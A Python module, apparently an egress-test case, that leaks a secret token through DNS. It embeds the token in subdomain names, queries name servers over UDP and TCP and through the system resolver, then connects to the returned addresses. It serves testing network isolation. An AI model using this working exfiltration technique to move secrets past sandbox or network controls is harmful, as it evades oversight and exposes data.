"""
Asks name service for names with a secret in them, over UDP and TCP and by the system's own lookup,
and connects to the addresses in the answers. A name server that is asked learns the secret.
"""

import secrets
import socket

from support.attempts import attempt
from support.listed import reach_listed

# RFC 1035, section 3.2.2, and RFC 9460.
TYPES = {"A": 1, "TXT": 16, "AAAA": 28, "HTTPS": 65}
DNS_PORT = 53


def attack(target):
    reach_listed(target)
    servers = dict.fromkeys(["127.0.0.1", *target["name_servers"][:3]])
    secret = target["token"]
    parents = (target["unlisted_name"], target["listed_name"])

    def asking(server, name, kind, over_tcp):
        def go():
            answer = (ask_over_tcp if over_tcp else ask)(server, question(name, kind))
            connect_to_answer(answer, target["listed_port"])
            return f"answered with {len(answer)} bytes"

        return go

    def looking_up(name):
        def go():
            address = socket.getaddrinfo(name, target["listed_port"], socket.AF_INET)[0][4]
            socket.create_connection(address, timeout=2).close()
            return f"it is {address[0]}"

        return go

    ways = {}
    for parent in parents:
        name = f"{secret}.{parent}"
        ways[f"lookup below {parent}"] = looking_up(name)
        for server in servers:
            for kind, number in TYPES.items():
                ways[f"{server}, {kind} below {parent}"] = asking(server, name, number, False)
            ways[f"{server}, TCP below {parent}"] = asking(server, name, TYPES["A"], True)
    return attempt(ways)


def question(name, kind):
    """RFC 1035, section 4: one question, under a random number."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    head = secrets.token_bytes(2) + b"\1\0\0\1\0\0\0\0\0\0"
    return head + labels + b"\0" + kind.to_bytes(2, "big") + b"\0\1"


def ask(server, query):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(0.5)
        datagrams.connect((server, DNS_PORT))
        datagrams.send(query)
        return datagrams.recv(512)


def ask_over_tcp(server, query):
    with socket.create_connection((server, DNS_PORT), timeout=0.5) as connection:
        connection.sendall(len(query).to_bytes(2, "big") + query)
        return connection.recv(514)[2:]


def connect_to_answer(answer, port):
    """Connects to the address that ends an answer: some look a name up only now."""
    if int.from_bytes(answer[6:8], "big") > 0:
        try:
            socket.create_connection((socket.inet_ntoa(answer[-4:]), port), timeout=2).close()
        except OSError:
            pass
